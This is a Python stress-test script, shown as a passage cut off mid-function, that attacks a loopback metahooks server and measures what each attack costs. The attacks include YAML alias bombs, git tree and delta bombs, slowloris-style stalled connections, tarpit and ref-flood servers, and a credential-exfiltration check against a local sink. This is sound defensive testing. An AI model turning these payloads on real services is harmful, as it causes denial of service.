#!/usr/bin/env python3
"""Attacks a release build of metahooks on loopback and reports what each attack cost:
peak RSS of the server (VmHWM), wall time, HTTP outcome, and CPU still being burnt after
the last answer. A fresh server per attack, so every peak is that attack's own.

usage: scripts/abuse.py BINARY   (scripts/abuse.sh builds the binary and calls this)
Nothing leaves 127.0.0.1; every loop is bounded in count and time.
"""
import http.client
import json
import os
import signal
import socket
import subprocess
import sys
import tempfile
import threading
import time

BINARY = sys.argv[1]


def free_port():
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


class Server:
    def __init__(self, *flags, cache=None):
        self.sampler = None
        self.hook, self.probe = free_port(), free_port()
        self.cache = cache or tempfile.mkdtemp(prefix="metahooks-abuse-")
        self.proc = subprocess.Popen(
            [BINARY, "serve", "--listen", f"127.0.0.1:{self.hook}", "--probe-listen",
             f"127.0.0.1:{self.probe}", "--cache-dir", self.cache, "--shutdown-delay-seconds", "1",
             *flags],
            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        deadline = time.time() + 30
        while time.time() < deadline:
            try:
                if get(self.probe, "/readyz")[0] == 200:
                    return
            except OSError:
                pass
            time.sleep(0.02)
        raise SystemExit("server did not become ready")

    def status(self, field):
        with open(f"/proc/{self.proc.pid}/status") as f:
            for line in f:
                if line.startswith(field + ":"):
                    return int(line.split()[1])
        return 0

    def peak_mib(self):
        return self.status("VmHWM") / 1024

    def cpu_seconds(self):
        with open(f"/proc/{self.proc.pid}/stat") as f:
            fields = f.read().rsplit(")", 1)[1].split()
        return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")

    def threads(self):
        return self.status("Threads")

    def leftover_cpu(self, seconds=2.0):
        """CPU seconds the server burns in `seconds` after the attack's last answer."""
        before = self.cpu_seconds()
        time.sleep(seconds)
        return self.cpu_seconds() - before

    def stop(self):
        started = time.time()
        self.proc.send_signal(signal.SIGTERM)
        try:
            self.proc.wait(timeout=30)
        except subprocess.TimeoutExpired:
            self.proc.kill()
            return None
        return time.time() - started


def get(port, path, timeout=5):
    conn = http.client.HTTPConnection("127.0.0.1", port, timeout=timeout)
    conn.request("GET", path)
    response = conn.getresponse()
    body = response.read()
    conn.close()
    return response.status, body


def post(port, path, body, timeout=30):
    conn = http.client.HTTPConnection("127.0.0.1", port, timeout=timeout)
    conn.request("POST", path, body=body, headers={"Content-Type": "application/json"})
    response = conn.getresponse()
    data = response.read()
    conn.close()
    return response.status, data


def apimock_request(definition, name="bomb"):
    return json.dumps({
        "controller": {"spec": {"hooks": {"sync": {"version": "v2"}}}},
        "parent": {"apiVersion": "apirator.io/v1alpha1", "kind": "APIMock",
                   "metadata": {"name": name, "namespace": "team-a", "uid": "u", "generation": 1},
                   "spec": {"definition": definition}},
        "children": {}, "related": {}, "finalizing": False}).encode()


def validated(data):
    try:
        status = json.loads(data)["status"]
    except (ValueError, KeyError):
        return "-"
    for c in status.get("conditions", []):
        if c.get("type") == "Validated":
            return f"Validated={c['status']} {c['reason']}"
    return "-"


ROWS = []


def report(attack, server, started, outcome, extra=""):
    elapsed = time.time() - started
    leftover = server.leftover_cpu()
    peak = max(server.peak_mib(), server.sampler.peak_mib()) if server.sampler else server.peak_mib()
    threads = str(server.threads())
    if server.sampler:
        threads = f"{server.sampler.threads_before} → {threads}"
    ROWS.append((attack, f"{peak:.0f}", f"{elapsed:.2f}", outcome, f"{leftover:.2f}", threads, extra))


def rss_kib(pid):
    try:
        with open(f"/proc/{pid}/status") as f:
            for line in f:
                if line.startswith("VmRSS:"):
                    return int(line.split()[1])
    except OSError:
        pass
    return 0


def children(pid):
    """Processes whose parent is `pid` (the server's fetch workers)."""
    found = []
    for entry in os.listdir("/proc"):
        if not entry.isdigit():
            continue
        try:
            with open(f"/proc/{entry}/stat") as f:
                fields = f.read().rsplit(")", 1)[1].split()
        except OSError:
            continue
        if int(fields[1]) == pid:
            found.append(int(entry))
    return found


class Sampler:
    """Peak of the server's RSS plus its fetch workers' (sampled every 20 ms), and the
    most workers seen at once."""

    def __init__(self, server):
        self.pid = server.proc.pid
        self.threads_before = server.threads()
        self.peak_kib = 0
        self.most_workers = 0
        self.running = True
        self.thread = threading.Thread(target=self.run, daemon=True)
        self.thread.start()

    def run(self):
        while self.running:
            workers = children(self.pid)
            total = rss_kib(self.pid) + sum(rss_kib(w) for w in workers)
            self.peak_kib = max(self.peak_kib, total)
            self.most_workers = max(self.most_workers, len(workers))
            time.sleep(0.02)

    def peak_mib(self):
        return self.peak_kib / 1024


def nested_alias_bomb(levels, fan_out, pad=0):
    head = "openapi: 3.0.0\ninfo: {title: t, version: '1', description: '" + "d" * pad + "'}\npaths: {}\n"
    text = head + "x-l0: &l0 [" + ", ".join(["aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"] * fan_out) + "]\n"
    for level in range(1, levels):
        text += f"x-l{level}: &l{level} [" + ", ".join([f"*l{level - 1}"] * fan_out) + "]\n"
    return text


def flat_alias_bomb(size):
    head = "openapi: 3.0.0\ninfo: {title: t, version: '1'}\npaths: {}\n"
    anchor = "x-a: &a [" + ", ".join(["b" * 64] * 200) + "]\n"
    refs = "x-r: [" + ", ".join(["*a"] * ((size - len(head) - len(anchor)) // 4)) + "]\n"
    return head + anchor + refs


def attack_definition(name, definition):
    server = Server()
    started = time.time()
    code, data = post(server.hook, "/apimock/sync", apimock_request(definition))
    report(f"{name} ({len(definition) // 1024} KiB)", server, started, f"{code} {validated(data)}")
    server.stop()


def attack_saturation():
    """Changed 900 KB definitions from 8 clients while probes are timed."""
    server = Server("--max-in-flight", "4")
    big = "openapi: 3.0.0\ninfo: {title: t, version: '1'}\npaths:\n" + "".join(
        f"  /p{i}:\n    get:\n      responses:\n        '200': {{description: ok}}\n" for i in range(11000))
    stop = time.time() + 15
    codes = {}
    lock = threading.Lock()

    def client(n):
        i = 0
        while time.time() < stop:
            i += 1
            try:
                code, _ = post(server.hook, "/apimock/sync", apimock_request(big + f"x-n: {n}-{i}\n"))
            except OSError:
                code = "error"
            with lock:
                codes[code] = codes.get(code, 0) + 1

    started = time.time()
    threads = [threading.Thread(target=client, args=(n,)) for n in range(8)]
    for t in threads:
        t.start()
    latencies = []
    while time.time() < stop:
        t0 = time.time()
        get(server.probe, "/healthz")
        latencies.append(time.time() - t0)
        time.sleep(0.01)
    for t in threads:
        t.join()
    latencies.sort()
    p99 = latencies[int(len(latencies) * 0.99) - 1] * 1000
    report(f"saturation: 8 clients x changed {len(big) // 1024} KiB definitions, --max-in-flight 4",
           server, started, f"answers {codes}; /healthz p99 {p99:.1f} ms over {len(latencies)} probes")
    server.stop()


def upload(port, body, timeout=60):
    """POSTs `body`, watching for an answer while sending: a server that refuses the call
    before reading the body answers (and closes) mid-upload. Returns (status, sent bytes)."""
    import select
    s = socket.create_connection(("127.0.0.1", port), timeout=timeout)
    s.sendall(f"POST /apimock/sync HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: {len(body)}\r\n\r\n".encode())
    sent = 0
    try:
        while sent < len(body):
            readable, _, _ = select.select([s], [], [], 0)
            if readable:
                break
            sent += s.send(body[sent:sent + 1024 * 1024])
    except OSError:
        pass
    try:
        status = s.recv(64).split(b" ")[1].decode()
    except (OSError, IndexError):
        status = "closed"
    s.close()
    return status, sent


def attack_uploads():
    """50 concurrent 30 MB uploads with --max-in-flight 4."""
    server = Server("--max-in-flight", "4")
    body = b'{"parent": {"metadata": {"name": "x"}}, "pad": "' + b"x" * (30 * 1024 * 1024) + b'"}'
    codes = {}
    unread = []
    lock = threading.Lock()

    def one():
        code, sent = upload(server.hook, body)
        with lock:
            codes[code] = codes.get(code, 0) + 1
            if code == "429":
                unread.append(len(body) - sent)

    started = time.time()
    threads = [threading.Thread(target=one) for _ in range(50)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    left = f"; the 429s came with on average {sum(unread) // max(1, len(unread)) // (1024 * 1024)} MiB of their body unsent" if unread else ""
    report("50 concurrent 30 MB uploads, --max-in-flight 4", server, started, f"answers {codes}{left}")
    server.stop()


def attack_slow_clients():
    """1000 connections that never finish their headers, and 20 that trickle a body."""
    server = Server("--header-read-timeout-seconds", "2", "--body-read-timeout-seconds", "2",
                    "--max-connections", "500")
    started = time.time()
    sockets = []
    for _ in range(1000):
        s = socket.create_connection(("127.0.0.1", server.hook))
        s.sendall(b"POST /apimock/sync HTTP/1.1\r\nHost: x\r\n")
        sockets.append(s)
    tricklers = []
    for _ in range(20):
        s = socket.create_connection(("127.0.0.1", server.hook))
        s.sendall(b"POST /apimock/sync HTTP/1.1\r\nHost: x\r\ncontent-length: 1000\r\n\r\n{")
        tricklers.append(s)
    closed = 0
    deadline = time.time() + 60
    for s in sockets + tricklers:
        s.settimeout(max(0.1, deadline - time.time()))
        try:
            while s.recv(4096):
                pass
            closed += 1
        except ConnectionResetError:
            closed += 1  # closed by the server, with our unread bytes still queued
        except OSError:
            pass  # still open when the time ran out
        s.close()
    ok = get(server.probe, "/healthz")[0]
    report("1000 stalled headers + 20 trickled bodies", server, started,
           f"{closed}/1020 closed by the server; /healthz {ok}")
    server.stop()


def attack_tree_bomb():
    """A git repository of trees naming each other (6 levels x 100), over git daemon."""
    root = tempfile.mkdtemp(prefix="metahooks-bomb-")
    bare = os.path.join(root, "bomb.git")
    subprocess.run(["git", "init", "-q", "--bare", bare], check=True)

    def git(args, data=b""):
        return subprocess.run(["git", *args], cwd=bare, input=data, capture_output=True,
                              check=True, env={**os.environ, "GIT_AUTHOR_NAME": "a", "GIT_AUTHOR_EMAIL": "a@b",
                                               "GIT_COMMITTER_NAME": "a", "GIT_COMMITTER_EMAIL": "a@b"}).stdout.decode().strip()

    tree = git(["mktree"])
    for _ in range(6):
        tree = git(["mktree"], "".join(f"040000 tree {tree}\td{i}\n" for i in range(100)).encode())
    commit = git(["commit-tree", tree, "-m", "bomb"])
    git(["update-ref", "refs/heads/main", commit])
    git(["symbolic-ref", "HEAD", "refs/heads/main"])
    port = free_port()
    daemon = subprocess.Popen(["git", "daemon", "--reuseaddr", "--export-all", f"--base-path={root}",
                               "--listen=127.0.0.1", f"--port={port}", root],
                              stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    time.sleep(0.5)
    server = Server("--allow-scheme", "git", "--allow-private-addresses")
    request = json.dumps({
        "controller": {"spec": {"hooks": {"sync": {"version": "v2"}}}},
        "parent": {"apiVersion": "services.example.com/v1alpha1", "kind": "MonitoredService",
                   "metadata": {"name": "svc", "namespace": "team-a", "uid": "u", "generation": 1},
                   "spec": {"image": "app:1", "source": {"git": {"url": f"git://127.0.0.1:{port}/bomb.git"}}}},
        "children": {}, "related": {}, "finalizing": False}).encode()
    started = time.time()
    outcome = "no answer"
    while time.time() - started < 60:
        code, data = post(server.hook, "/monitoredservice/sync", request)
        fetched = [c for c in json.loads(data)["status"].get("conditions", []) if c["type"] == "Fetched"]
        if fetched and fetched[0]["reason"] not in ("FetchPending",):
            outcome = f"{code} Fetched={fetched[0]['status']} {fetched[0]['reason']}"
            break
        time.sleep(0.1)
    report("git tree bomb, 6 levels x 100 entries", server, started, outcome)
    took = server.stop()
    ROWS.append(("  SIGTERM to exit after the tree bomb", "", f"{took:.2f}" if took else "killed", "", "", "", ""))
    daemon.terminate()


SOURCE_FLAGS = ("--allow-scheme", "git,http", "--allow-private-addresses")


def service_request(name, source, namespace="team-a", related=None, children_=None, interval=None):
    spec = {"image": "app:1", "source": source}
    if interval:
        spec["intervalSeconds"] = interval
    return json.dumps({
        "controller": {"spec": {"hooks": {"sync": {"version": "v2"}}}},
        "parent": {"apiVersion": "services.example.com/v1alpha1", "kind": "MonitoredService",
                   "metadata": {"name": name, "namespace": namespace, "uid": f"u-{namespace}-{name}", "generation": 1},
                   "spec": spec},
        "children": children_ or {}, "related": related or {}, "finalizing": False}).encode()


def fetched_of(data):
    try:
        conditions = json.loads(data)["status"].get("conditions", [])
    except (ValueError, KeyError):
        return None
    for c in conditions:
        if c["type"] == "Fetched":
            return c
    return None


def sync_until_fetched(server, request, limit=90):
    """Syncs until Fetched is no longer pending; returns (outcome, seconds)."""
    started = time.time()
    while time.time() - started < limit:
        code, data = post(server.hook, "/monitoredservice/sync", request)
        fetched = fetched_of(data)
        if fetched and fetched["reason"] != "FetchPending":
            return f"{code} Fetched={fetched['status']} {fetched['reason']}", time.time() - started
        time.sleep(0.05)
    return "still pending", time.time() - started


def sync_all(server, requests, limit):
    """Syncs every request until its Fetched is no longer pending (or `limit` seconds);
    returns a count of the outcomes and how many were still pending."""
    pending = set(range(len(requests)))
    outcomes = {}
    started = time.time()
    while pending and time.time() - started < limit:
        for i in sorted(pending):
            fetched = fetched_of(post(server.hook, "/monitoredservice/sync", requests[i])[1])
            if fetched and fetched["reason"] != "FetchPending":
                pending.discard(i)
                key = f"Fetched={fetched['status']} {fetched['reason']}"
                outcomes[key] = outcomes.get(key, 0) + 1
        time.sleep(0.1)
    return ", ".join(f"{n} {k}" for k, n in sorted(outcomes.items())), len(pending)


class Hostile:
    """A hostile TCP remote on loopback: each connection runs `behave(conn)` in a thread;
    records bytes sent and how long connections stayed open."""

    def __init__(self, behave):
        self.sock = socket.socket()
        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(512)
        self.port = self.sock.getsockname()[1]
        self.behave = behave
        self.sent = 0
        self.lifetimes = []
        self.requests = []
        self.lock = threading.Lock()
        threading.Thread(target=self.accept, daemon=True).start()

    def accept(self):
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            threading.Thread(target=self.serve, args=(conn,), daemon=True).start()

    def serve(self, conn):
        opened = time.time()
        try:
            conn.settimeout(120)
            head = conn.recv(65536)
            with self.lock:
                self.requests.append(head)
            self.behave(self, conn, head)
        except OSError:
            pass
        finally:
            conn.close()
            with self.lock:
                self.lifetimes.append(time.time() - opened)

    def send(self, conn, data):
        conn.sendall(data)
        with self.lock:
            self.sent += len(data)

    def wait_closed(self, count, limit=60):
        started = time.time()
        while time.time() - started < limit:
            with self.lock:
                if len(self.lifetimes) >= count:
                    return max(self.lifetimes)
            time.sleep(0.05)
        return None


def ref_flood(http):
    def behave(hostile, conn, head):
        if http:
            hostile.send(conn, b"HTTP/1.1 200 OK\r\nContent-Type: application/x-git-upload-pack-advertisement\r\n"
                               b"Content-Length: 100000000000\r\n\r\n001e# service=git-upload-pack\n0000")
        n = 0
        while True:
            batch = []
            for _ in range(2048):
                line = f"{n + 1:040x} refs/heads/r{n}" + ("\0multi_ack\n" if n == 0 else "\n")
                batch.append(f"{len(line) + 4:04x}{line}")
                n += 1
            hostile.send(conn, "".join(batch).encode())
    return behave


def tarpit(hostile, conn, head):
    hostile.send(conn, b"ffff")
    while True:
        time.sleep(1.0)
        hostile.send(conn, b"a")


def git_repo(files, big=None):
    """A bare repository served by git daemon: files (path -> bytes), and optionally
    `big` = (path, size) of zeros written straight into the object store."""
    root = tempfile.mkdtemp(prefix="metahooks-src-")
    bare = os.path.join(root, "config.git")
    subprocess.run(["git", "init", "-q", "--bare", "--initial-branch=main", bare], check=True)
    env = {**os.environ, "GIT_AUTHOR_NAME": "a", "GIT_AUTHOR_EMAIL": "a@b", "GIT_COMMITTER_NAME": "a", "GIT_COMMITTER_EMAIL": "a@b"}

    def git(args, data=b""):
        return subprocess.run(["git", *args], cwd=bare, input=data, capture_output=True, check=True, env=env).stdout.decode().strip()

    entries = []
    for path, content in files.items():
        entries.append(f"100644 blob {git(['hash-object', '-w', '--stdin'], content)}\t{path}\n")
    if big:
        path, size = big
        with subprocess.Popen(["git", "hash-object", "-w", "--stdin"], cwd=bare, stdin=subprocess.PIPE, stdout=subprocess.PIPE) as p:
            chunk = b"\0" * (1 << 20)
            for _ in range(size >> 20):
                p.stdin.write(chunk)
            p.stdin.close()
            blob = p.stdout.read().decode().strip()
        entries.append(f"100644 blob {blob}\t{path}\n")
    tree = git(["mktree"], "".join(entries).encode())
    commit = git(["commit-tree", tree, "-m", "c"])
    git(["update-ref", "refs/heads/main", commit])
    port = free_port()
    daemon = subprocess.Popen(["git", "daemon", "--reuseaddr", "--export-all", f"--base-path={root}",
                               "--listen=127.0.0.1", f"--port={port}", root],
                              stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    deadline = time.time() + 10
    while time.time() < deadline:
        try:
            socket.create_connection(("127.0.0.1", port), timeout=1).close()
            break
        except OSError:
            time.sleep(0.05)
    return f"git://127.0.0.1:{port}/config.git", daemon


def sourced_server(*flags, cache=None):
    server = Server(*SOURCE_FLAGS, *flags, cache=cache)
    server.sampler = Sampler(server)
    return server


def finish(server):
    server.sampler.running = False
    server.stop()


def attack_exfiltration():
    import base64
    sink = Hostile(lambda h, conn, head: h.send(conn, b"HTTP/1.1 401 Unauthorized\r\nWWW-Authenticate: Basic realm=x\r\nContent-Length: 0\r\n\r\n"))
    server = sourced_server()
    secret = {"apiVersion": "v1", "kind": "Secret", "metadata": {"name": "creds", "namespace": "team-a"},
              "data": {"token": base64.b64encode(b"TOKEN-exfil").decode(), "username": base64.b64encode(b"deploy-bot").decode()}}
    started = time.time()
    outcomes = []
    for kind, url in (("git", f"http://127.0.0.1:{sink.port}/repo.git"), ("http", f"http://127.0.0.1:{sink.port}/app.env")):
        request = service_request(f"x-{kind}", {kind: {"url": url, "secretRef": {"name": "creds"}}},
                                  related={"Secret.v1": {"team-a/creds": secret}})
        outcomes.append(sync_until_fetched(server, request)[0])
    leaked = sum(1 for r in sink.requests if b"TOKEN-exfil" in r or b"authorization" in r.lower())
    report("Secret without allowed-urls sent to an attacker's git and HTTP URLs", server, started,
           "; ".join(sorted(set(outcomes))), f"{len(sink.requests)} requests, {leaked} with credentials")
    finish(server)


def attack_ref_flood(http):
    flood = Hostile(ref_flood(http))
    server = sourced_server()
    scheme = "http" if http else "git"
    started = time.time()
    outcome, _ = sync_until_fetched(server, service_request("flood", {"git": {"url": f"{scheme}://127.0.0.1:{flood.port}/r.git"}}))
    closed = flood.wait_closed(1)
    report(f"endless ref advertisement over {scheme}://", server, started, outcome,
           f"{flood.sent / 2**20:.0f} MiB sent, closed after {closed:.1f} s" if closed else "still open")
    finish(server)


def attack_blob_bomb():
    url, daemon = git_repo({"ok.env": b"A=1\n"}, big=("app.env", 1 << 30))
    cache = tempfile.mkdtemp(prefix="metahooks-abuse-")
    server = sourced_server(cache=cache)
    started = time.time()
    outcome, _ = sync_until_fetched(server, service_request("bomb", {"git": {"url": url, "path": "app.env"}}))
    report("1 GiB zero blob as the config file (1 MB pack)", server, started, outcome)
    server.proc.kill()
    server.proc.wait()
    server.sampler.running = False
    again = sourced_server(cache=cache)
    started = time.time()
    outcome, _ = sync_until_fetched(again, service_request("bomb", {"git": {"url": url, "path": "app.env"}}))
    report("  the same after kill -9 and a restart on the same cache", again, started, outcome)
    finish(again)
    daemon.terminate()


def attack_delta_bomb():
    """A hostile git:// server sending a 17 KB pack whose 300 MiB blob is a delta."""
    bare = os.path.join(tempfile.mkdtemp(prefix="metahooks-delta-"), "config.git")
    subprocess.run(["git", "init", "-q", "--bare", "--initial-branch=main", bare], check=True)
    script = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "tests", "hostile", "delta_bomb.py")
    bomb = subprocess.Popen([sys.executable, script, "serve", bare, "300"], stdout=subprocess.PIPE)
    port = int(bomb.stdout.readline())
    server = sourced_server()
    started = time.time()
    outcome, _ = sync_until_fetched(server, service_request("delta", {"git": {"url": f"git://127.0.0.1:{port}/config.git", "path": "app.env"}}))
    report("delta bomb: 17 KB pack, 300 MiB blob as a delta (~340 MiB to index unbounded)", server, started, outcome)
    finish(server)
    bomb.kill()


def attack_tarpits(count=200):
    honest_url, daemon = git_repo({"app.env": b"HONEST=1\n"})
    # Baseline: the honest source alone.
    server = sourced_server()
    _, baseline = sync_until_fetched(server, service_request("honest", {"git": {"url": honest_url, "path": "app.env"}}, namespace="honest"))
    finish(server)
    pit = Hostile(tarpit)
    server = sourced_server()
    started = time.time()
    for i in range(count):
        post(server.hook, "/monitoredservice/sync", service_request(f"pit-{i}", {"git": {"url": f"git://127.0.0.1:{pit.port}/r{i}.git"}}, namespace="attacker"))
    outcome, honest = sync_until_fetched(server, service_request("honest", {"git": {"url": honest_url, "path": "app.env"}}, namespace="honest"))
    # Let every tarpit reach its deadline (8 workers, 2 for the attacker's namespace).
    closed = pit.wait_closed(2, limit=60)
    report(f"{count} tarpits in one namespace, an honest source in another", server, started,
           f"honest: {outcome} in {honest:.2f} s (alone: {baseline:.2f} s)",
           f"first tarpits closed after {closed:.1f} s; {server.sampler.most_workers} workers at most" if closed else "tarpits still open")
    finish(server)
    daemon.terminate()


def attack_many_http_sources(count=300, size=1000 * 1000):
    import http.server

    class Files(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            n = self.path.strip("/").split(".")[0]
            body = (f"# file {n}\n" + "".join(f"K{n}_{i}=" + "v" * 100 + "\n" for i in range(size // 110))).encode()[:size]
            self.send_response(200)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *args):
            pass

    httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Files)
    threading.Thread(target=httpd.serve_forever, daemon=True).start()
    port = httpd.server_address[1]
    server = sourced_server()
    started = time.time()
    summary, pending = sync_all(server, [service_request(f"s{i}", {"http": {"url": f"http://127.0.0.1:{port}/{i}.env"}})
                                         for i in range(count)], limit=240)
    report(f"{count} MonitoredServices, each on its own {size / 1e6:.2f} MB HTTP file", server, started,
           f"{summary}; {pending} pending")
    finish(server)
    httpd.shutdown()


def disk_bytes(path):
    total = 0
    for root, _, files in os.walk(path):
        for name in files:
            try:
                total += os.lstat(os.path.join(root, name)).st_size
            except OSError:
                pass
    return total


def attack_disk_cap(repos=8, size=40 << 20, cap=100 << 20):
    """Eight namespaces each on its own 40 MiB (incompressible) repository at once, with
    --cache-max-bytes 100 MiB: the most the cache held on disk."""
    urls = []
    daemons = []
    for i in range(repos):
        url, daemon = git_repo({"app.env": b"A=1\n", "blob.bin": os.urandom(size)})
        urls.append(url)
        daemons.append(daemon)
    server = sourced_server("--cache-max-bytes", str(cap))
    peak = [0]
    sampling = [True]

    def sample():
        while sampling[0]:
            peak[0] = max(peak[0], disk_bytes(server.cache))
            time.sleep(0.05)

    threading.Thread(target=sample, daemon=True).start()
    started = time.time()
    summary, _ = sync_all(server, [service_request(f"d{i}", {"git": {"url": urls[i], "path": "app.env"}}, namespace=f"team-{i}")
                                   for i in range(repos)], limit=120)
    sampling[0] = False
    left = disk_bytes(server.cache)
    report(f"{repos} namespaces on {size >> 20} MiB repositories at once, cache cap {cap >> 20} MiB", server, started,
           summary, f"cache on disk: peak {peak[0] / 2**20:.0f} MiB, after {left / 2**20:.0f} MiB")
    finish(server)
    for daemon in daemons:
        daemon.terminate()


def legitimate_calls(server, stop, codes, lock):
    """A client syncing a small valid APIMock until `stop`, counting the answers."""
    request = apimock_request("openapi: 3.0.0\ninfo: {title: t, version: '1'}\npaths: {}\n", name="legit")
    while time.time() < stop:
        try:
            code, _ = post(server.hook, "/apimock/sync", request, timeout=10)
        except OSError:
            code = "error"
        with lock:
            codes[code] = codes.get(code, 0) + 1
        time.sleep(0.05)


def attack_probe_port(count=2000, head=390 * 1024, hook_port=False):
    """2000 connections to the probe port, each sending 390 KiB of a header it never
    finishes, while /healthz is asked every 50 ms on a connection of its own (with
    `hook_port`, 1100 such connections to the hook port while a client syncs)."""
    server = Server()
    server.sampler = Sampler(server)
    started = time.time()
    target = server.hook if hook_port else server.probe
    codes, codes_lock = {}, threading.Lock()
    legit = None
    if hook_port:
        legit = threading.Thread(target=legitimate_calls, args=(server, time.time() + 20, codes, codes_lock))
        legit.start()
    opened = []
    closed_at = []
    lock = threading.Lock()

    def hold():
        try:
            s = socket.create_connection(("127.0.0.1", target), timeout=5)
            s.sendall(b"POST /apimock/sync HTTP/1.1\r\nHost: x\r\nX-Pad: " + b"a" * head)
        except OSError:
            with lock:
                closed_at.append(time.time() - started)
            return
        s.settimeout(60)
        with lock:
            opened.append(s)
        try:
            while s.recv(4096):
                pass
        except OSError:
            pass
        with lock:
            closed_at.append(time.time() - started)

    holders = [threading.Thread(target=hold, daemon=True) for _ in range(count)]
    for t in holders:
        t.start()
    probes, slow = 0, 0
    stop = time.time() + 20
    while time.time() < stop:
        t0 = time.time()
        try:
            ok = get(server.probe, "/healthz", timeout=1)[0] == 200
        except OSError:
            ok = False
        probes += 1
        slow += 0 if ok and time.time() - t0 < 1 else 1
        time.sleep(0.05)
    for t in holders:
        t.join(timeout=60)
    with lock:
        closed = len(closed_at)
        last = max(closed_at) if closed_at else 0
    if legit:
        legit.join()
    port = "hook" if hook_port else "probe"
    during = f"; legitimate calls during the attack: {codes}" if hook_port else ""
    report(f"{port} port: {count} connections x {head // 1024} KiB unfinished header", server, started,
           f"{closed}/{count} closed by the server, the last after {last:.1f} s; /healthz answered within 1 s {probes - slow}/{probes}{during}")
    finish(server)


def attack_hook_port_heads():
    attack_probe_port(count=1100, head=400 * 1024, hook_port=True)


def attack_trickled_bodies(count=64):
    """64 calls that send one byte of their body every 2 s, while a client syncs."""
    server = Server("--max-in-flight", "64", "--body-read-timeout-seconds", "30")
    server.sampler = Sampler(server)
    started = time.time()
    tricklers = []
    for _ in range(count):
        s = socket.create_connection(("127.0.0.1", server.hook))
        s.sendall(b"POST /apimock/sync HTTP/1.1\r\nHost: x\r\ncontent-length: 1000\r\n\r\n{")
        tricklers.append(s)
    # Every trickler is in (holding a slot, or a byte of the body budget) before the
    # legitimate client starts, or the first legitimate call could race one out.
    admitted = (f"metahooks_hook_in_flight {count}", f"metahooks_hook_body_bytes {count}")
    deadline = time.time() + 10
    while time.time() < deadline:
        lines = get(server.probe, "/metrics")[1].decode().splitlines()
        if any(line in admitted for line in lines):
            break
        time.sleep(0.05)
    codes, lock = {}, threading.Lock()
    stop = time.time() + 20
    legit = threading.Thread(target=legitimate_calls, args=(server, stop, codes, lock))
    legit.start()
    while time.time() < stop:
        for s in tricklers:
            try:
                s.sendall(b" ")
            except OSError:
                pass
        time.sleep(2)
    legit.join()
    for s in tricklers:
        s.close()
    report(f"{count} trickled bodies (1 byte / 2 s), --max-in-flight 64", server, started,
           f"legitimate calls during the attack: {codes}")
    finish(server)


def attack_long_urls(count=160, length=400 * 1000):
    """160 MonitoredServices whose git URLs are 400 KB long."""
    server = sourced_server()
    started = time.time()
    outcomes = {}
    for i in range(count):
        url = f"http://127.0.0.1:9/{'a' * length}{i}.git"
        code, data = post(server.hook, "/monitoredservice/sync", service_request(f"u{i}", {"git": {"url": url, "path": "x"}}))
        reason = "-"
        try:
            for c in json.loads(data)["status"]["conditions"]:
                if c["type"] == "ConfigValid":
                    reason = f"ConfigValid={c['status']} {c['reason']}"
        except (ValueError, KeyError):
            pass
        outcomes[f"{code} {reason}"] = outcomes.get(f"{code} {reason}", 0) + 1
    scrape = len(get(server.probe, "/metrics")[1])
    report(f"{count} MonitoredServices with {length // 1000} KB git URLs", server, started,
           f"{outcomes}; /metrics {scrape // 1024} KiB")
    finish(server)


def attack_path_spellings(count=200):
    """200 MonitoredServices on one remote, each spelling the same path differently."""
    url, daemon = git_repo({"app.env": b"A=1\n" + b"B=" + b"x" * 500_000 + b"\n"})
    server = sourced_server()
    started = time.time()
    spellings = ["./" * (i % 20) + "app.env" + "/." * (i // 20) for i in range(count)]
    summary, pending = sync_all(server, [service_request(f"p{i}", {"git": {"url": url, "path": p}})
                                         for i, p in enumerate(spellings)], limit=120)
    report(f"{count} spellings of one path on one remote", server, started, f"{summary}; {pending} pending",
           f"most workers at once: {server.sampler.most_workers}")
    finish(server)
    daemon.terminate()


def attack_future_dated():
    """A commit dated a day ahead, then an ordinary one: the ordinary one must roll."""
    root = tempfile.mkdtemp(prefix="metahooks-dated-")
    bare = os.path.join(root, "config.git")
    work = os.path.join(root, "work")
    subprocess.run(["git", "init", "-q", "--bare", "--initial-branch=main", bare], check=True)
    subprocess.run(["git", "init", "-q", "--initial-branch=main", work], check=True)
    env = {**os.environ, "GIT_AUTHOR_NAME": "a", "GIT_AUTHOR_EMAIL": "a@b", "GIT_COMMITTER_NAME": "a", "GIT_COMMITTER_EMAIL": "a@b"}

    def commit(text, ahead):
        with open(os.path.join(work, "app.env"), "w") as f:
            f.write(text)
        at = f"@{int(time.time()) + ahead} +0000"
        subprocess.run(["git", "add", "-A"], cwd=work, check=True, env=env)
        subprocess.run(["git", "commit", "-q", "-m", text], cwd=work, check=True,
                       env={**env, "GIT_AUTHOR_DATE": at, "GIT_COMMITTER_DATE": at})
        subprocess.run(["git", "push", "-q", bare, "HEAD:main"], cwd=work, check=True, env=env)
        return subprocess.run(["git", "rev-parse", "HEAD"], cwd=work, capture_output=True, check=True).stdout.decode().strip()

    port = free_port()
    daemon = subprocess.Popen(["git", "daemon", "--reuseaddr", "--export-all", f"--base-path={root}",
                               "--listen=127.0.0.1", f"--port={port}", root],
                              stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    url = f"git://127.0.0.1:{port}/config.git"
    commit("V=1\n", 86_400)
    server = sourced_server()
    started = time.time()
    source = {"git": {"url": url, "path": "app.env"}}
    children_ = {}
    fetches = 0

    def sync():
        nonlocal children_
        _, data = post(server.hook, "/monitoredservice/sync", service_request("dated", source, children_=children_, interval=10))
        answer = json.loads(data)
        children_ = {}
        for child in answer.get("children", []):
            key = f"{child['kind']}.{child['apiVersion']}"
            children_.setdefault(key, {})[f"team-a/{child['metadata']['name']}"] = child
        return answer.get("status", {}).get("revision") or ""

    deadline = time.time() + 30
